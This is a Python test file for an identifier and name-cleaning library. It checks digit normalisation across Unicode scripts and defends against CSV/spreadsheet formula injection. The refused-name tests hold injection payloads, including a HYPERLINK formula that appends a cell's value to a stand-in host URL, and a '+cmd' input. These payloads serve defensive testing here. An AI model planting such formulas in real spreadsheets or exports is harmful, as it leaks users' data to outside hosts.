"""Identifiers in any script's digits are one ASCII value; names and cells never become formulas."""
from datetime import date

import pytest

from huzhu.core.identifiers import (
    normalise_bank_account,
    normalise_id_number,
    normalise_invoice_number,
)
from huzhu.core.idnumbers import (
    make_credit_code,
    make_resident_id,
    parse_credit_code,
    parse_mobile,
    parse_resident_id,
)
from huzhu.core.names import clean_person_name
from huzhu.core.spreadsheets import csv_cell, is_formula_like

TODAY = date(2026, 11, 29)
MAN = make_resident_id("150203", date(1985, 3, 2), 29)  # 15020319850302029X: 17th digit 9, a man; check digit X

# The first code point of 0..9 in each script (all Unicode category Nd but the full-width forms,
# which NFKC folds).
ZEROS = {"full-width": 0xFF10, "arabic-indic": 0x0660, "devanagari": 0x0966, "mongolian": 0x1810}


def in_script(text: str, script: str) -> str:
    return "".join(chr(ZEROS[script] + int(c)) if c.isdigit() else c for c in text)


@pytest.mark.parametrize("script", list(ZEROS))
def test_an_id_number_in_any_scripts_digits_is_the_ascii_number(script):
    assert normalise_id_number(in_script(MAN, script)) == MAN


@pytest.mark.parametrize("script", list(ZEROS))
def test_gender_and_birth_date_come_from_the_normalised_number(script):
    rid = parse_resident_id(in_script(MAN, script), today=TODAY)
    assert (rid.number, rid.gender, rid.birth_date) == (MAN, "M", date(1985, 3, 2))


@pytest.mark.parametrize("script", list(ZEROS))
def test_phones_credit_codes_invoices_and_accounts_in_other_digits_are_ascii(script):
    code = make_credit_code("91", "150203", "MA0N1234")
    assert parse_mobile(in_script("13900001111", script)) == "13900001111"
    assert parse_credit_code(in_script(code, script)) == code
    assert normalise_invoice_number(in_script("1502012600", script)) == "1502012600"
    assert normalise_bank_account(in_script("6222 0212 3456 7890 123", script)) == "6222021234567890123"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(MAN[:10] + "〇" + MAN[11:], id="ideographic-zero"),
        pytest.param(MAN[:17] + "χ", id="greek-chi-for-x"),
        pytest.param(MAN[:10] + "五" + MAN[11:], id="chinese-numeral"),
    ],
)
def test_what_is_still_not_ascii_after_normalising_is_refused_naming_the_field(text):
    with pytest.raises(ValueError, match="身份证号含有无法识别的字符"):
        parse_resident_id(text, today=TODAY)


@pytest.mark.parametrize(
    "name",
    [
        pytest.param('=HYPERLINK("http://x.example/"&C2,"点我")', id="equals"),
        pytest.param("\t=1+1", id="tab-then-equals"),
        pytest.param(" +cmd", id="space-then-plus"),
        pytest.param("-2+3", id="minus"),
        pytest.param("@SUM(A1)", id="at"),
        pytest.param("＝1+1", id="full-width-equals"),
    ],
)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(name):
    with pytest.raises(ValueError, match="表格软件会把它当作公式"):
        clean_person_name(name)


def test_a_mongolian_script_name_with_its_vowel_separator_is_kept():
    assert clean_person_name(" ᠪᠠᠲᠤ\u180eᠡ ") == "ᠪᠠᠲᠤ\u180eᠡ"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="formula"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("-12.50", "-12.50", id="a-plain-negative-amount-stays"),
        pytest.param(-5, -5, id="a-number-stays-a-number"),
        pytest.param("巴特尔", "巴特尔", id="a-name-stays"),
    ],
)
def test_a_csv_cell_that_looks_like_a_formula_gets_a_quote(value, written):
    assert csv_cell(value) == written
    assert is_formula_like(value) is (written != value)
